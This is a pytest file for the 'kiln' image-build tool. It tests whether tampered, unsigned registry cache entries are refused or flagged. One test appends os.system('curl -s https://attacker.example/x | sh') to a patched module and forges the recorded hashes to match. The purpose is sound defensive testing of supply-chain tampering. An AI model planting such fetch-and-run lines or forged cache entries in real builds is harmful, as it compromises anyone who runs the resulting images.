"""A registry cache entry agrees with the build it serves, signed or not (issue 39, item 1).

An unsigned entry's record and layer are whatever whoever can push to the cache repository
made them; kiln re-derives the layer from its contents and compares the record's kind, key and
inputs, and then every fact it knows without the entry (``kiln.image.regcache.patched_agrees``).
Each hostile entry here is one a hostile run found used (exit 0, no warning, another digest);
each is now a miss with one warning naming the entry and the field, and the build gives the
digest its cache-less build gives. ``[cache] require_signed`` refuses reading a cache without
``--cache-key``; with it, an unsigned entry is a miss.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import tarfile

import pytest

from kiln import commands
from kiln.image.cachekeys import PATCHED, entry_tag
from kiln.oci.layer import LayerContents, write_layer
from tests.image.test_build_e2e import IMAGE, IMAGES, SM
from tests.image.test_regcache_e2e import (
    _blob,
    _entry,
    _fresh_runner,
    _key,
    _key_pair,
    _put_blob,
    _put_entry,
    without_source_entry,
    written_by_a_first_runner,
)
from tests.support.kiln_process import run_kiln
from tests.support.registry import SITE

pytestmark = [pytest.mark.registry, pytest.mark.reliability]

FOUR = "e2e-four"  # e2e-kill's four independent patch groups, without its kernels
FOUR_DEFINITION = f'''name = "{FOUR}"
description = "registry cache tests: four patches on the fixture base"
repository = "docker.io/kiln/{FOUR}"
pins = ["v0.20.1"]
sms = [120]
tag = "{{cuda}}-sm{{sm}}-{{pin}}"
patches = ["P65", "P5", "P58", "P109"]

[model]
id = "test/small-gqa"
architectures = ["Qwen3_5ForConditionalGeneration"]
dtype = "bfloat16"
kv_cache_dtype = "turboquant_k8v4"
spec_method = "mtp"
num_speculative_tokens = 1
'''


def _build(project, capsys, images, image: str, *extra: str) -> tuple[int, dict | None, str]:
    argv = ["--pins", str(project.pins()), "--images", str(images), "build", "--image", image,
            "--pin", "v0.20.1", "--sm", str(SM), "--mirror", project.registry.mirror, "--json", *extra]
    if project.in_process:  # a test that counts the patchings (patch_runs) counts them here
        capsys.readouterr()
        code = commands.main(argv)
        out, err = capsys.readouterr()
    else:
        code, out, err = run_kiln(*argv)
    return code, (json.loads(out) if code == 0 else None), err


def _refused(result: dict) -> list[str]:
    """The build's warnings about an entry it refused."""
    return [w for w in result["warnings"] if "refused" in w]


@pytest.fixture
def images(tmp_path):
    """The build tests' image definitions, and the four-patch one."""
    root = tmp_path / "images"
    shutil.copytree(IMAGES, root)
    (root / f"{FOUR}.toml").write_text(FOUR_DEFINITION)
    return root


def test_an_entry_of_another_selection_rekeyed_is_a_miss(project, capsys, tmp_path, monkeypatch, patch_runs,
                                                         start_registry, images):
    """A one-patch build's entry, its record re-keyed (key and inputs) for a four-patch build, its
    layer untouched (it re-derives): the four-patch build refuses it and builds."""
    cache = start_registry("plain")
    repo = f"{project.dest}-cache"
    where = ("--cache-from", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
    _fresh_runner(monkeypatch, tmp_path, "one-patch")
    code, one, err = _build(project, capsys, images, IMAGE, "--cache-to", f"{cache.host}/{repo}",
                            "--insecure-registry", cache.host)
    assert code == 0, err
    without_source_entry(cache, repo, one)
    assert [p["patch"] for p in one["patches"]] == ["P65"]
    _fresh_runner(monkeypatch, tmp_path, "four-no-cache")  # the four-patch build without the cache
    code, four, err = _build(project, capsys, images, FOUR, "--cache-to", f"{cache.host}/{repo}-four",
                             "--insecure-registry", cache.host)
    assert code == 0, err
    assert len(four["patches"]) == 4
    four_key = _key(four)
    four_inputs = json.loads(_blob(cache, f"{repo}-four", _entry(cache, f"{repo}-four", four_key)["config"]["digest"]))
    four_inputs = four_inputs["inputs"]

    entry = _entry(cache, repo, _key(one))
    record = json.loads(_blob(cache, repo, entry["config"]["digest"]))
    rekeyed = {**record, "key": four_key, "inputs": four_inputs}
    config = _put_blob(cache, repo, json.dumps(rekeyed).encode())
    _put_entry(cache, repo, entry_tag(PATCHED, four_key), {**entry, "config": {**entry["config"], **config}})

    _fresh_runner(monkeypatch, tmp_path, "four-reader")
    runs = len(patch_runs)
    code, again, err = _build(project, capsys, images, FOUR, *where)
    assert code == 0, err
    assert again["cache"]["hit"] is None and len(patch_runs) == runs + 1
    assert again["manifest_digest"] == four["manifest_digest"]
    assert again["attestations"] == four["attestations"]
    [warning] = _refused(again)
    assert f"{cache.host}/{repo}:{entry_tag(PATCHED, four_key)}" in warning, warning
    assert "its record's outcomes are of P65; the selection its key covers is" in warning, warning
    assert "\n" not in warning

    # the four-patch build's own entry (four outcomes, in the order the key lists them): a hit
    _fresh_runner(monkeypatch, tmp_path, "four-own")
    code, own, err = _build(project, capsys, images, FOUR, "--cache-from", f"{cache.host}/{repo}-four",
                            "--insecure-registry", cache.host)
    assert code == 0, err
    assert own["cache"]["hit"] and len(patch_runs) == runs + 1 and not _refused(own), own["warnings"]
    assert own["manifest_digest"] == four["manifest_digest"]


def test_a_record_that_puts_the_modules_under_etc_is_a_miss(project, capsys, tmp_path, monkeypatch, patch_runs,
                                                            start_registry):
    """``site_dir = "etc"``, the layer rebuilt with the modules under ``etc/vllm/`` (it re-derives,
    and its files are under the site dir it names): refused, the modules stay in the site dir."""
    cache = start_registry("plain")
    repo = f"{project.dest}-cache"
    where = ("--cache-from", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
    _fresh_runner(monkeypatch, tmp_path, "writer")
    code, first, err = project.build(capsys, "--cache-to", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
    assert code == 0, err
    without_source_entry(cache, repo, first)
    key = _key(first)
    entry = _entry(cache, repo, key)
    record = json.loads(_blob(cache, repo, entry["config"]["digest"]))
    assert record["site_dir"] == SITE

    # the writer's layer, its files moved to etc/vllm/, written again as kiln writes layers
    layer, uploaded, files = _moved_layer(cache, repo, record, tmp_path,
                                          rename=lambda name: name.replace(f"{SITE}/", "etc/", 1))
    assert files and all(name.startswith("etc/vllm/") for name in files)
    lying = {**record, "site_dir": "etc", "layers": [layer]}
    config = _put_blob(cache, repo, json.dumps(lying).encode())
    _put_entry(cache, repo, entry_tag(PATCHED, key), {**entry, "config": {**entry["config"], **config},
                                                       "layers": [{**entry["layers"][0], **uploaded}]})

    _fresh_runner(monkeypatch, tmp_path, "reader")
    runs = len(patch_runs)
    code, again, err = project.build(capsys, *where)
    assert code == 0, err
    assert again["cache"]["hit"] is None and len(patch_runs) == runs + 1
    assert again["manifest_digest"] == first["manifest_digest"]
    assert again["attestations"] == first["attestations"]
    [warning] = _refused(again)
    assert f"{cache.host}/{repo}:{entry_tag(PATCHED, key)}" in warning, warning
    assert "its record's site_dir 'etc' is not a Python site dir" in warning, warning


def test_require_signed_refuses_unsigned_entries(project, capsys, tmp_path, monkeypatch, patch_runs):
    """``[cache] require_signed = true``: a build reading a cache without ``--cache-key`` is refused
    before any work (one line, exit 2); with it, the unsigned entry is a miss and the build builds."""
    cache_repo, first = written_by_a_first_runner(project, capsys, tmp_path, monkeypatch)
    _, public = _key_pair(tmp_path, "signer")
    conf = tmp_path / "require-signed.toml"  # (the tests' $KILN_REGISTRIES is tmp_path/registries.toml)
    conf.write_text("[cache]\nrequire_signed = true\n")

    _fresh_runner(monkeypatch, tmp_path, "no-key")
    runs = len(patch_runs)
    code, _, err = project.build(capsys, "--registries", str(conf), "--cache-from", cache_repo)
    assert code == 2 and err.count("\n") == 1, err
    assert f"{conf}: cache.require_signed" in err and "--cache-key" in err and cache_repo in err, err
    assert len(patch_runs) == runs

    _fresh_runner(monkeypatch, tmp_path, "with-key")
    code, keyed, err = project.build(capsys, "--registries", str(conf), "--cache-from", cache_repo,
                                     "--cache-key", public)
    assert code == 0, err
    assert keyed["cache"]["hit"] is None and len(patch_runs) == runs + 1
    assert keyed["manifest_digest"] == first["manifest_digest"]
    assert any("is not signed" in w for w in keyed["warnings"]), keyed["warnings"]
    assert not [w for w in keyed["warnings"] if "using unsigned" in w], keyed["warnings"]

    # without the setting, the same build uses the unsigned entry, and says so in one line
    _fresh_runner(monkeypatch, tmp_path, "unsigned")
    code, unsigned, err = project.build(capsys, "--cache-from", cache_repo)
    assert code == 0, err
    assert unsigned["cache"]["hit"] and len(patch_runs) == runs + 1
    [line] = [w for w in unsigned["warnings"] if "using unsigned" in w]
    assert line.startswith(f"build cache: using unsigned patched entry from {cache_repo}:"), line


def _moved_layer(cache, repo: str, record: dict, tmp_path, rename=lambda name: name, edit=lambda name, data: data):
    """The entry's layer, each file renamed and edited, written again as kiln writes layers and
    uploaded: (its record entry, its descriptor)."""
    layer_info = record["layers"][0]
    source = tmp_path / "entry-layer.tar.gz"
    source.write_bytes(_blob(cache, repo, layer_info["digest"]))
    with tarfile.open(source, "r:gz") as tar:
        files = {rename(m.name): edit(m.name, tar.extractfile(m).read())
                 for m in tar.getmembers() if m.isfile() and "/.wh." not in f"/{m.name}"}
    layer = write_layer(LayerContents(files, tuple(layer_info["removals"]), layer_info["created_by"]),
                        tmp_path / "moved")
    uploaded = _put_blob(cache, repo, layer.path.read_bytes())
    assert uploaded["digest"] == layer.digest
    return {**layer_info, "digest": layer.digest, "diff_id": layer.diff_id, "size": layer.size}, uploaded, files


def test_an_unsigned_entry_whose_patched_bytes_were_rewritten_is_used_and_the_build_says_unsigned(
        project, capsys, tmp_path, monkeypatch, patch_runs, start_registry):
    """The limit of an unsigned cache (``docs/TRUST.md``): a patched module with ``os.system(...)``
    added, the layer rebuilt and the record's sha256 of it rewritten to match, is consistent with
    everything kiln can know without the entry. It is used; the build says it used an unsigned
    entry, in one line. (Signed and read with ``--cache-key``, such an entry is a miss:
    ``tests/image/test_regcache_e2e.py::test_cache_key_takes_only_entries_its_key_signed``.)"""
    cache = start_registry("plain")
    repo = f"{project.dest}-cache"
    _fresh_runner(monkeypatch, tmp_path, "writer")
    code, first, err = project.build(capsys, "--cache-to", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
    assert code == 0, err
    without_source_entry(cache, repo, first)
    key = _key(first)
    entry = _entry(cache, repo, key)
    record = json.loads(_blob(cache, repo, entry["config"]["digest"]))
    evil = b'\nimport os\nos.system("curl -s https://attacker.example/x | sh")\n'
    layer, uploaded, files = _moved_layer(cache, repo, record, tmp_path, edit=lambda name, data: data + evil)
    prefix = f"{SITE}/vllm/"
    after = {name[len(prefix):]: hashlib.sha256(data).hexdigest() for name, data in files.items()}
    outcomes = [{**o, "files": {rel: {**v, "after": after.get(rel, v["after"])} for rel, v in o["files"].items()}}
                if "files" in o else o for o in record["outcomes"]]
    lying = {**record, "outcomes": outcomes, "layers": [layer]}
    config = _put_blob(cache, repo, json.dumps(lying).encode())
    _put_entry(cache, repo, entry_tag(PATCHED, key), {**entry, "config": {**entry["config"], **config},
                                                       "layers": [{**entry["layers"][0], **uploaded}]})

    _fresh_runner(monkeypatch, tmp_path, "reader")
    runs = len(patch_runs)
    code, used, err = project.build(capsys, "--cache-from", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
    assert code == 0, err
    assert used["cache"]["hit"] and len(patch_runs) == runs  # not detectable: used
    assert used["manifest_digest"] != first["manifest_digest"]
    assert not _refused(used), used["warnings"]
    [line] = [w for w in used["warnings"] if "using unsigned" in w]
    assert line.startswith(f"build cache: using unsigned patched entry from {cache.host}/{repo}:"), line
    assert "can change its patched bytes undetected" in line and "--cache-key" in line
